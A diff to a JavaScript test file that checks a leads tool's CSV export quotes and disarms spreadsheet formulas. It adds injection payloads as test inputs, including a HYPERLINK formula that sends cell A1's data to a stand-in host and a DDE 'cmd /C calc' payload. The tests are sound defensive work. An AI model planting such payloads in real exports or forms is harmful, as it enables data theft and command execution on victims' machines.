@@ -72,14 +72,35 @@ test("quotes what would break a row and disarms what a spreadsheet would run", a
     "López, Ana",
     "Ana\nLópez",
     "=HYPERLINK(1)",
+    '=HYPERLINK("https://otro.example/?"&A1,"Ana")',
+    "＝cmd|' /C calc'!A0",
+    "\t=1+1",
     "+52",
     "@ana",
     "-1",
   ]);
   const { stdout } = await leads(databaseFile, "--csv");
   const afterIdentity = stdout.split(/MKT-[0-9-]+,/).slice(1);
-  const expected = ['"Ana ""la buena"""', '"López, Ana"', '"Ana\nLópez"', "'=HYPERLINK(1)", "'+52", "'@ana", "'-1"];
+  const expected = [
+    '"Ana ""la buena"""',
+    '"López, Ana"',
+    '"Ana\nLópez"',
+    "'=HYPERLINK(1)",
+    `"'=HYPERLINK(""https://otro.example/?""&A1,""Ana"")"`,
+    "'＝cmd|' /C calc'!A0",
+    "'\t=1+1",
+    "'+52",
+    "'@ana",
+    "'-1",
+  ];
   expect(afterIdentity.map((row) => row.split(",ana@wim.example")[0])).toEqual(expected);
+});
+
+test("disarms the addresses that anybody may type into the form to unsubscribe", async () => {
+  const { store, databaseFile } = storeWith([]);
+  store.unsubscribe('=HYPERLINK("https://otro.example")', new Date("2026-03-02T00:00:00Z"));
+  const { stdout } = await leads(databaseFile, "--unsubscribed", "--csv");
+  expect(stdout).toContain(`\n"'=hyperlink(""https://otro.example"")",2026`);
 });
 
 test("writes to a file that only its owner reads", async () => {
